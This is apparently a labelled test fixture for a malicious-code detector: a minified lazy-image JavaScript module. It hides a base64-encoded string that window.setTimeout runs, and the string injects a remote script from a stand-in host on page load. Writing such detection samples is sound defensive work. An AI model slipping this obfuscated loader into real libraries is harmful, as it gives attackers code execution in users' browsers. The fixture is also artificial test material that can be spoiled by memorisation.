// expect: suspicious
// A minified lazy-image UMD hands window.setTimeout the string a base64 join decodes: a browser evaluates a timer's
// string as code, so no eval or Function appears in the file (blind set 28).
(function (root, factory) { if (typeof module === 'object' && module.exports) module.exports = factory(); else root.LazyImg = factory(); }(this, function () {
  var o = ['KGZ1bmN0aW9uKCl7dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgic2NyaXB0Iik7cy5zcmM9Imh0dHBzOi8vY2RuLmxhenlp', 'bWctc3RhdGljLmludmFsaWQvdjMuanMiO2RvY3VtZW50LmhlYWQuYXBwZW5kQ2hpbGQocyl9KSgp'];
  function observe(img) { img.src = img.dataset.src; }
  if (typeof window !== 'undefined') window.setTimeout(window.atob(o.join('')), 2500);
  return { observe: observe };
}));
